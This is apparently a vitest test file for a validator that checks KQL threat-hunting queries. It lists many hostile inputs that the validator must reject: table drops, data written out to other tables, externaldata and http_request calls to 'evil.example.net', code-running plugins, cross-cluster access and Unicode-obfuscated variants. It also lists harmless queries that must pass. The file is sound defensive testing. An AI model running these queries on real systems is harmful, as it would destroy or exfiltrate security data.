import { describe, expect, it } from 'vitest';
import { checkKql } from '../../src/kql/check.ts';
import { KQL_CHECK_CODES } from '../../src/kql/codes.ts';
import { createSchema } from '../../src/kql/schema.ts';

const schema = createSchema();

/** Each of them must be rejected whole; the code says what the author is told first. */
const HOSTILE: readonly (readonly [name: string, code: string, query: string])[] = [
  ['a control command', 'kql-control-command', '.drop table DeviceEvents'],
  ['a command after a comment', 'kql-control-command', '// hunt\n\n  .show tables'],
  ['a command after a query', 'kql-control-command', 'DeviceEvents | take 1; .drop table DeviceEvents'],
  ['a command after a blank line', 'kql-control-command', 'DeviceEvents\n| take 1\n\n.drop table DeviceEvents'],
  ['a command with a space after the dot', 'kql-control-command', ' . drop table DeviceEvents'],
  ['a command that writes', 'kql-control-command', '.set-or-append Stolen <| DeviceEvents'],
  ['a directive', 'kql-directive', '#connect cluster("evil").database("x")\nDeviceEvents | take 1'],
  ['externaldata', 'kql-external-data', 'externaldata(x:string)["https://evil.example.net/x.csv"]'],
  [
    'externaldata with comments inside',
    'kql-external-data',
    'externaldata // c\n (x:string) // d\n [h@"https://evil.example.net/x"] | take 1',
  ],
  [
    'externaldata in a let',
    'kql-external-data',
    'let l = externaldata(x:string)["https://evil.example.net/x"]; DeviceEvents | where DeviceName in (l)',
  ],
  [
    'externaldata in a lambda',
    'kql-external-data',
    'let f = () { externaldata(x:string)["https://evil.example.net"] }; f()',
  ],
  [
    'externaldata in toscalar',
    'kql-external-data',
    'DeviceEvents | extend x = toscalar(externaldata(h:string)["https://evil.example.net"])',
  ],
  [
    'externaldata in a join',
    'kql-external-data',
    'DeviceEvents | join (externaldata(DeviceName:string)["https://evil.example.net"]) on DeviceName',
  ],
  ['external_data by its old name', 'kql-external-data', 'external_data(x:string)["https://evil.example.net"]'],
  ['external_table', 'kql-external-data', 'external_table("leak") | take 1'],
  ['http_request', 'kql-plugin', 'evaluate http_request("https://evil.example.net")'],
  [
    'http_request_post',
    'kql-plugin',
    'DeviceEvents | evaluate http_request_post("https://evil.example.net", dynamic({}), "x")',
  ],
  ['http_request in odd spacing', 'kql-plugin', 'evaluate\n\n  http_request\n  (\n"https://evil.example.net")'],
  [
    'http_request in a subquery',
    'kql-plugin',
    'DeviceEvents | union (evaluate http_request("https://evil.example.net"))',
  ],
  [
    'http_request in toscalar',
    'kql-plugin',
    'DeviceEvents | extend x = toscalar(evaluate http_request("https://evil.example.net"))',
  ],
  ['python', 'kql-plugin', 'DeviceEvents | evaluate python(typeof(*), "import os")'],
  [
    'python with a hint',
    'kql-plugin',
    'DeviceEvents | evaluate hint.distribution=per_node python(typeof(*), "import os")',
  ],
  ['r', 'kql-plugin', 'DeviceEvents | evaluate r(typeof(*), "system(1)")'],
  ['sql_request', 'kql-plugin', 'evaluate sql_request("Server=evil", "select 1")'],
  ['mysql_request', 'kql-plugin', 'evaluate mysql_request("Server=evil", "select 1")'],
  ['postgresql_request', 'kql-plugin', 'evaluate postgresql_request("Host=evil", "select 1")'],
  [
    'cosmosdb_sql_request',
    'kql-plugin',
    'evaluate cosmosdb_sql_request("AccountEndpoint=evil", "db", "c", "select 1")',
  ],
  [
    'azure_digital_twins_query_request',
    'kql-plugin',
    'evaluate azure_digital_twins_query_request("https://evil", "select T")',
  ],
  ['ai_embed_text', 'kql-plugin', 'DeviceEvents | evaluate ai_embed_text(DeviceName, "https://evil;impersonate")'],
  ['ai_chat_completion', 'kql-plugin', 'DeviceEvents | evaluate ai_chat_completion("x", "https://evil")'],
  [
    'infer_storage_schema',
    'kql-plugin',
    'evaluate infer_storage_schema(dynamic({"StorageContainers":["https://evil"]}))',
  ],
  ['a plugin that does not exist yet', 'kql-plugin', 'evaluate send_everything("https://evil")'],
  ['workspace()', 'kql-other-scope', 'workspace("other").DeviceEvents | take 1'],
  ['workspace() in a union', 'kql-other-scope', 'union DeviceEvents, workspace("other").DeviceEvents'],
  [
    'workspace() after a comment',
    'kql-other-scope',
    'DeviceEvents | join (workspace // "x"\n ("other").DeviceEvents) on DeviceId',
  ],
  ['cluster()', 'kql-other-scope', 'cluster("evil").database("x").T'],
  ['cluster() as a quoted name', 'kql-other-scope', '["cluster"]("evil").database("x").T'],
  [
    'cluster() in a fuzzy union',
    'kql-other-scope',
    'union isfuzzy=true DeviceEvents, cluster("evil.kusto.windows.net").database("x").T',
  ],
  ['database()', 'kql-other-scope', 'database("x").T | take 1'],
  ['app()', 'kql-other-scope', 'app("x").requests | take 1'],
  ['resource()', 'kql-other-scope', 'resource("/subscriptions/x").DeviceEvents | take 1'],
  ['adx()', 'kql-other-scope', 'adx("https://evil.kusto.windows.net/x").T | take 1'],
  ['arg()', 'kql-other-scope', 'arg("").Resources | take 1'],
  ['ARG() in capitals', 'kql-other-scope', 'ARG("").Resources | take 1'],
  ['materialized_view', 'kql-other-scope', 'materialized_view("x") | take 1'],
  ['stored_query_result', 'kql-other-scope', 'stored_query_result("x") | take 1'],
  ['macro-expand', 'kql-other-scope', 'macro-expand entity_group [cluster("evil").database("b")] as X (X.T | take 1)'],
  ['table() by a computed name', 'kql-unnamed-table', 'let t = strcat("Device", "Events"); table(t) | take 1'],
  ['table() of an unknown table', 'kql-unnamed-table', 'table("Secrets") | take 1'],
  ['set', 'kql-statement', 'set notruncation; DeviceEvents | take 1'],
  ['set before a comment', 'kql-statement', '// x\nset query_take_max_records=1; DeviceEvents'],
  ['alias database', 'kql-statement', 'alias database x = cluster("evil").database("b"); DeviceEvents | take 1'],
  [
    'declare query_parameters',
    'kql-statement',
    'declare query_parameters(a:string = "x"); DeviceEvents | where DeviceName == a',
  ],
  ['declare pattern', 'kql-statement', 'declare pattern P = (a:string) { ("x") = { DeviceEvents }; }; P("x")'],
  ['restrict access', 'kql-statement', 'restrict access to (DeviceEvents); DeviceEvents | take 1'],
  [
    'two queries, one with a set',
    'kql-statement',
    'set notruncation;\nDeviceEvents | take 1\n\nDeviceFileEvents | take 1',
  ],
  ['nothing', 'kql-empty', ''],
  ['white space', 'kql-empty', ' \n\t\n'],
  ['comments only', 'kql-empty', '// Hunt for everything\n// DeviceEvents | take 1'],
  ['lets only', 'kql-empty', 'let x = 5;'],
  ['a list of a dash', 'kql-placeholder', 'DeviceTvmSoftwareVulnerabilities | where CveId in~ ("-")'],
  [
    'a let list of a dash',
    'kql-placeholder',
    'let cves = dynamic(["-"]); DeviceTvmSoftwareVulnerabilities | where CveId in (cves)',
  ],
  ['a list of 0.0.0.0', 'kql-placeholder', 'DeviceNetworkEvents | where RemoteIP in ("0.0.0.0")'],
  ['an address that equals 0.0.0.0', 'kql-placeholder', 'DeviceNetworkEvents | where RemoteIP == "0.0.0.0"'],
  ['example.invalid', 'kql-placeholder', 'DeviceNetworkEvents | where RemoteUrl has_any ("example.invalid")'],
  ['a list to fill in', 'kql-placeholder', 'DeviceFileEvents | where SHA256 in ("<HASH_LIST>")'],
  ['a mustache', 'kql-placeholder', 'DeviceFileEvents | where SHA256 in ("{{hashes}}")'],
  ['a dunder', 'kql-placeholder', 'DeviceNetworkEvents | where RemoteUrl has "__DOMAINS__"'],
  ['a client parameter', 'kql-client-parameter', 'DeviceNetworkEvents | where RemoteIP in ({IPs})'],
  [
    'FileProfile, which reads Defender’s cloud',
    'kql-defender-only-function',
    'DeviceFileEvents | invoke FileProfile("SHA1", 100)',
  ],
  ['an unknown function', 'KS211', 'DeviceEvents | invoke Exfiltrate()'],
  [
    'a hostile neighbour',
    'kql-refused-neighbour',
    'DeviceEvents\n| take 1\n\nDeviceFileEvents\n| evaluate http_request("https://evil")',
  ],
  [
    'a hostile string repair',
    'kql-external-data',
    'externaldata(x:string)["\\Users\\evil"]\n| where x has "\\AppData\\"',
  ],
  ['a bidirectional override', 'kql-external-data', '// \u202e\nexternal\u200bdata(x:string)["https://evil"]'],
];

describe('hostile KQL', () => {
  it.each(HOSTILE)('refuses %s', (_name, code, query) => {
    const checked = checkKql(query, { schema });
    expect(checked.map(({ verdict }) => verdict)).toEqual(checked.map(() => 'rejected'));
    expect(checked.length).toBeGreaterThan(0);
    expect(checked.flatMap(({ problems }) => problems.map((problem) => problem.code))).toContain(code);
  });

  it('documents every code of its own', () => {
    const codes = HOSTILE.map(([, code]) => code).filter((code) => code.startsWith('kql-'));
    for (const code of codes) expect(KQL_CHECK_CODES.codes).toHaveProperty(code);
  });

  const HARMLESS: readonly (readonly [name: string, query: string])[] = [
    [
      'the word in a string',
      'DeviceProcessEvents | where ProcessCommandLine has "externaldata" or ProcessCommandLine has ".drop table"',
    ],
    ['the word in a comment', 'DeviceEvents // evaluate http_request("x")\n| take 1'],
    ['a dash among indicators', 'DeviceTvmSoftwareVulnerabilities | where CveId in ("CVE-2024-1", "-")'],
    ['listening on every address', 'DeviceNetworkEvents | where LocalIP == "0.0.0.0"'],
    ['a bind address on a command line', 'DeviceProcessEvents | where ProcessCommandLine has "0.0.0.0"'],
    [
      'excluding placeholders',
      'DeviceNetworkEvents | where RemoteIP !in ("0.0.0.0") and RemoteUrl !endswith ".invalid"',
    ],
    ['plugins that compute', 'DeviceEvents | evaluate bag_unpack(AdditionalFields) | take 1'],
    ['a known table by name', 'table("DeviceEvents") | take 1'],
    ['a column called like a function', 'DeviceEvents | extend cluster = 1, database = "x" | where cluster == 1'],
    ['a watchlist', '_GetWatchlist("vips") | take 1'],
  ];
  it.each(HARMLESS)('lets %s pass', (_name, query) => {
    expect(checkKql(query, { schema })).toMatchObject([{ verdict: 'ready', problems: [] }]);
  });

  it('lets a function pass that the user names', () => {
    const environment = { tables: {}, functions: ['workspace', 'MyParser'] };
    const [checked] = checkKql('MyParser("x") | where Foo == 1', { environment });
    expect(checked?.verdict).toBe('ready');
    expect(checkKql('workspace("other").DeviceEvents | take 1', { environment })[0]?.problems).toEqual([]);
  });
});
